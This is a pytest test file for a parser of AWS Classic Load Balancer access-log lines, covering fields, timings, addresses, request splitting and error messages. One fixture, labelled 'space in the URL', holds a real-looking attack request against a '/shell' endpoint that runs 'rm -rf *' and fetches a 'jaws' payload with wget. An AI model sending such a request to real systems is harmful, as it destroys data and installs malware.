"""Classic lines, column by column, from AWS's definition of the format and from lines seen in the wild."""

import json

import pytest
from elb_log_shipper.events.formats import LineParseError, parse_line

COLUMNS = {
    "timestamp": "2026-03-02T08:00:00.123456Z",
    "elb": "web",
    "client:port": "192.0.2.1:2817",
    "backend:port": "10.0.0.1:80",
    "request_processing_time": "0.000043",
    "backend_processing_time": "0.001337",
    "response_processing_time": "0.000057",
    "elb_status_code": "200",
    "backend_status_code": "201",
    "received_bytes": "12",
    "sent_bytes": "34",
    "request": '"GET http://www.example.com:80/ HTTP/1.1"',
    "user_agent": '"curl/8.5.0"',
    "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
    "ssl_protocol": "TLSv1.2",
}


def line(columns: int = 15, **changed: str) -> str:
    values = {**COLUMNS, **{name.replace("__", ":"): value for name, value in changed.items()}}
    return " ".join(list(values.values())[:columns])


def test_fields_and_their_order():
    assert list(parse_line(line()).items()) == [
        ("EventReceivedTime", "2026-03-02T08:00:00.123456Z"),
        ("LoadBalancerName", "web"),
        ("PublicIpAndPort", "192.0.2.1:2817"),
        ("PublicIp", "192.0.2.1"),
        ("PublicPort", 2817),
        ("InternalIpAndPort", "10.0.0.1:80"),
        ("InternalIp", "10.0.0.1"),
        ("InternalPort", 80),
        ("TimeToForwardRequest", 0.043),
        ("TimeTaken", 1.337),
        ("TimeToForwardResponse", 0.057),
        ("Status", 200),
        ("BackendStatus", 201),
        ("BytesUploadedFromClient", 12),
        ("BytesDownloadedByClient", 34),
        ("FullRequest", "GET http://www.example.com:80/ HTTP/1.1"),
        ("RequestMethod", "GET"),
        ("RequestUrl", "http://www.example.com:80/"),
        ("RequestProtocol", "HTTP/1.1"),
        ("UserAgent", "curl/8.5.0"),
        ("SslCipher", "ECDHE-RSA-AES128-GCM-SHA256"),
        ("SslProtocol", "TLSv1.2"),
    ]


def test_lines_of_2014_have_12_columns():
    fields = parse_line(line(12))
    assert list(fields)[-1] == "RequestProtocol"
    assert "UserAgent" not in fields


@pytest.mark.parametrize(
    ("seconds", "milliseconds"),
    [
        ("0.000043", "0.043"),  # times 1000 as a float it is 0.043000000000000003
        ("0.000057", "0.057"),
        ("0.001", "1.0"),
        ("0.000001", "0.001"),
        ("1.204999", "1204.999"),
        ("0.290001", "290.001"),
        ("0.0", "0.0"),
        ("60", "60000.0"),
        ("3999.999999", "3999999.999"),
        ("123456789.123456", "123456789123.456"),
        ("-1", "null"),
        ("-1.0", "null"),
        ("-", "null"),
    ],
)
@pytest.mark.parametrize(
    ("column", "field"),
    [
        ("request_processing_time", "TimeToForwardRequest"),
        ("backend_processing_time", "TimeTaken"),
        ("response_processing_time", "TimeToForwardResponse"),
    ],
)
def test_times_are_milliseconds_without_noise(column, field, seconds, milliseconds):
    assert json.dumps(parse_line(line(**{column: seconds}))[field]) == milliseconds


@pytest.mark.parametrize("thousandths", range(0, 100_000, 997))
def test_each_microsecond_has_an_exact_value(thousandths):
    value = parse_line(line(backend_processing_time=f"0.{thousandths:06}"))["TimeTaken"]
    assert f"{value:.3f}" == f"{thousandths // 1000}.{thousandths % 1000:03}"
    assert len(repr(value).partition(".")[2]) <= 3


@pytest.mark.parametrize(
    ("changed", "field", "value"),
    [
        pytest.param({"elb_status_code": "-"}, "Status", None, id="no status on TCP listeners"),
        pytest.param({"backend_status_code": "-"}, "BackendStatus", None, id="no backend status"),
        pytest.param({"elb_status_code": "460"}, "Status", 460, id="client gave up"),
        pytest.param({"elb_status_code": "504"}, "Status", 504, id="backend too slow"),
        pytest.param({"received_bytes": "-"}, "BytesUploadedFromClient", None, id="no bytes up"),
        pytest.param({"sent_bytes": "-"}, "BytesDownloadedByClient", None, id="no bytes down"),
        pytest.param({"sent_bytes": "5368709120"}, "BytesDownloadedByClient", 5368709120, id="more than 32 bits"),
        pytest.param({"received_bytes": "-1"}, "BytesUploadedFromClient", None, id="-1 is none"),
        pytest.param({"backend__port": "-"}, "InternalPort", None, id="no backend, no port"),
        pytest.param({"backend__port": "-"}, "InternalIpAndPort", None, id="no backend"),
        pytest.param({"client__port": "-"}, "PublicIpAndPort", None, id="no client"),
        pytest.param(
            {"client__port": "2601:240:4002:5883:b5f3:aaaa:bbbb:64ec:53016"},
            "PublicIpAndPort",
            "2601:240:4002:5883:b5f3:aaaa:bbbb:64ec:53016",
            id="IPv6 has no brackets",
        ),
        pytest.param({"request": '"- - - "'}, "FullRequest", "- - - ", id="TCP listener, with its trailing space"),
        pytest.param(
            {"request": '"- http://www.example.com:80- -"'},
            "FullRequest",
            "- http://www.example.com:80- -",
            id="malformed request",
        ),
        pytest.param({"request": '"- http://h:80-/ "'}, "FullRequest", "- http://h:80-/ ", id="no protocol"),
        pytest.param({"request": '""'}, "FullRequest", "", id="empty request"),
        pytest.param(
            {"request": '"GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example/jaws HTTP/1.1"'},
            "FullRequest",
            "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.example/jaws HTTP/1.1",
            id="space in the URL",
        ),
        pytest.param(
            {"request": '"GET https://[::ffff:a9fe:a9fe]:443/ HTTP/1.1"'},
            "FullRequest",
            "GET https://[::ffff:a9fe:a9fe]:443/ HTTP/1.1",
            id="IPv6 host in the URL",
        ),
        pytest.param({"user_agent": r'"a \x22b\x22 \x5C"'}, "UserAgent", r"a \x22b\x22 \x5C", id="escaped quotes"),
        pytest.param({"user_agent": '"C:\\"'}, "UserAgent", "C:\\", id="a backslash escapes nothing"),
        pytest.param({"user_agent": '"-"'}, "UserAgent", None, id="no user agent"),
        pytest.param({"user_agent": '""'}, "UserAgent", None, id="empty user agent"),
        pytest.param({"user_agent": '"a\0b\x1bc"'}, "UserAgent", "a\0b\x1bc", id="control characters"),
        pytest.param({"ssl_cipher": "-"}, "SslCipher", None, id="no cipher"),
        pytest.param({"ssl_protocol": "-"}, "SslProtocol", None, id="no protocol version"),
        pytest.param(
            {"timestamp": "2026-03-02T08:00:00Z"}, "EventReceivedTime", "2026-03-02T08:00:00Z", id="no micros"
        ),
    ],
)
def test_values(changed, field, value):
    assert parse_line(line(**changed))[field] == value


@pytest.mark.parametrize(
    ("request_text", "parts"),
    [
        ("GET http://h:80/ HTTP/1.1", ("GET", "http://h:80/", "HTTP/1.1")),
        ("GET http://h:80/a b  c HTTP/1.1", ("GET", "http://h:80/a b  c", "HTTP/1.1")),
        ("- http://www.example.com:80- -", (None, "http://www.example.com:80-", None)),
        ("- http://h:80-/ ", (None, "http://h:80-/", None)),
        ("- - -", (None, None, None)),
        ("- - - ", (None, None, None)),
        ("GET  HTTP/1.1", ("GET", None, "HTTP/1.1")),
        ("GET /", ("GET", "/", None)),
        ("-", (None, None, None)),
        ("", (None, None, None)),
        ("junk", (None, "junk", None)),
    ],
)
def test_a_request_is_split_at_its_first_and_last_space(request_text, parts):
    fields = parse_line(line(request=f'"{request_text}"'))
    assert fields["FullRequest"] == request_text
    assert (fields["RequestMethod"], fields["RequestUrl"], fields["RequestProtocol"]) == parts


def test_the_port_follows_the_last_colon():
    fields = parse_line(line(client__port="2601:240:4002:5883:b5f3:aaaa:bbbb:64ec:53016"))
    assert (fields["PublicIp"], fields["PublicPort"]) == ("2601:240:4002:5883:b5f3:aaaa:bbbb:64ec", 53016)


def test_a_timed_out_request_keeps_its_backend():
    fields = parse_line(
        line(
            request_processing_time="-1",
            backend_processing_time="-1",
            response_processing_time="-1",
            elb_status_code="504",
            backend_status_code="0",
        )
    )
    assert fields["InternalIpAndPort"] == "10.0.0.1:80"
    assert fields["TimeToForwardRequest"] is fields["TimeTaken"] is fields["TimeToForwardResponse"] is None
    assert (fields["Status"], fields["BackendStatus"]) == (504, 0)


def test_columns_that_aws_may_append_are_kept():
    fields = parse_line(line() + ' TID_1 "two words" "" -')
    assert list(fields)[-1] == "Extra"
    assert fields["Extra"] == ["TID_1", "two words", "", "-"]
    assert fields["SslProtocol"] == "TLSv1.2"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        pytest.param("", "column 1: found nothing, expected a value", id="nothing"),
        pytest.param(line(11), "11 columns: expected 12 or more in a log of a Classic", id="11 columns"),
        pytest.param(line()[: line().index("curl") + 2], "column 13: a quote that does not end", id="cut in a quote"),
        pytest.param(
            line(user_agent='"a "b" c"'), "column 13: found text directly after the closing quote", id="raw quotes"
        ),
        pytest.param(
            line(user_agent='"a" "b"'), r"column 14 \(ssl_cipher\): found quotes, expected none", id="two quoted"
        ),
        pytest.param(
            line(user_agent='"a"x'), "column 13: found text directly after the closing quote", id="text behind a quote"
        ),
        pytest.param(
            line(elb='we"b'), "column 2: found a quote inside a value, expected a space", id="quote in a bare column"
        ),
        pytest.param(
            line(request="GET / HTTP/1.1"),
            r"column 12 \(request\): found no quotes, expected some, and 17 "
            "columns, expected 15",
            id="request without quotes",
        ),
        pytest.param(line(elb=""), "column 2: found two spaces, expected a value", id="two spaces"),
        pytest.param(" " + line(), "column 1: found a space at the start, expected a value", id="space at the start"),
        pytest.param(line(elb="my web"), r"column 3 \(client:port\): 'web' is not", id="space in the name"),
        pytest.param(line(timestamp="02/Mar/2026"), r"column 1 \(timestamp\): '02/Mar/2026' is not", id="time"),
        pytest.param(line(timestamp="2026-03-02T08:00:00.1"), r"column 1 \(timestamp\)", id="time without a zone"),
        pytest.param(line(client__port="192.0.2.1"), r"column 3 \(client:port\): '192.0.2.1' is not", id="no port"),
        pytest.param(line(client__port=":80"), r"column 3 \(client:port\)", id="no address"),
        pytest.param(line(backend__port="a:b"), r"column 4 \(backend:port\)", id="port not digits"),
        pytest.param(line(request_processing_time="x"), r"column 5 \(request_processing_time\): 'x' is", id="time x"),
        pytest.param(line(backend_processing_time="1e3"), r"column 6 \(backend_processing_time\)", id="exponent"),
        pytest.param(line(backend_processing_time="-2"), r"column 6 \(backend_processing_time\)", id="negative"),
        pytest.param(line(response_processing_time="nan"), r"column 7 \(response_processing_time\)", id="nan"),
        pytest.param(line(response_processing_time="inf"), r"column 7 \(response_processing_time\)", id="inf"),
        pytest.param(line(response_processing_time="9" * 400), r"column 7 .*: '9{80}' is not", id="short reason"),
        pytest.param(line(elb_status_code="2OO"), r"column 8 \(elb_status_code\): '2OO' is not", id="letter O"),
        pytest.param(
            line(backend_status_code="٢٠٠"), r"column 9 \(backend_status_code\)", id="digits of another script"
        ),
        pytest.param(line(received_bytes="-2"), r"column 10 \(received_bytes\)", id="negative bytes"),
        pytest.param(line(sent_bytes="9" * 19), r"column 11 \(sent_bytes\)", id="more than 64 bits"),
        pytest.param(line(sent_bytes="1_000"), r"column 11 \(sent_bytes\)", id="underscore"),
        pytest.param("Enable AccessLog for ELB: web at 2026-03-02T08:00:00Z", "7 columns", id="test object"),
    ],
)
def test_lines_of_another_shape_say_what_is_wrong(text, reason):
    with pytest.raises(LineParseError, match=reason):
        parse_line(text)
